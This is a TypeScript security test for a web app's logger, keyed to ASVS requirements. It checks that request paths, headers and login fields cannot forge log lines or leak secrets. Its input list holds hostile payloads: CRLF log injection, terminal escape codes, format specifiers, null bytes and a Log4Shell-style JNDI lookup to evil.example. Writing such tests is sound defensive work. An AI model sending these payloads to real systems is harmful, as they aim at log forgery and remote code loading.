import { Writable } from 'node:stream'
import { pino } from 'pino'
import { expect, it } from 'vitest'
import { makeApp } from '#app.ts'
import { useTestApp } from '#testing/app.ts'

const koya = useTestApp()

it('T41 ASVS-16.2.4 ASVS-16.4.1 ASVS-1.3.10 what somebody sends makes no line of the log, and changes none', async () => {
  let log = ''
  const stream = new Writable({
    write(chunk, _encoding, done) {
      log += chunk
      done()
    },
  })
  const app = await makeApp(koya.context, pino({ level: 'debug' }, stream))
  const forged = '{"level":30,"msg":"answered"}'
  const odd = [
    `/%0d%0a${encodeURIComponent(forged)}`,
    '/%1b[2J%1b[31mred',
    '/%s%d%o%j%n',
    '/%25s%25d',
    '/$%7bjndi:ldap://evil.example/a%7d',
    '/%e2%80%a8next',
    '/%00',
    '/"},"msg":"forged"',
  ]
  for (const path of odd) {
    await app.inject({
      url: `/api${path}?token=secret-of-a-link`,
      headers: { 'user-agent': `a\u001b[31m ${forged}` },
    })
    await app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'content-type': 'application/json' },
      payload: JSON.stringify({ email: `ada@koya.test${path}`, password: 'secret of a person' }),
    })
  }
  await app.close()
  const lines = log.trimEnd().split('\n')
  // A request with an invalid address may have no log entry, so there can be fewer entries than requests.
  expect(lines.length).toBeGreaterThan(odd.length)
  for (const line of lines) {
    expect(JSON.parse(line)).toMatchObject({
      msg: expect.stringMatching(/^(answered|security)$/),
      reqId: expect.any(String),
      time: expect.any(Number),
    })
    // biome-ignore lint/suspicious/noControlCharactersInRegex: a terminal would obey these characters
    expect(line).not.toMatch(/[\u0000-\u001f\u007f\u2028]|secret of|secret-of/)
  }
})
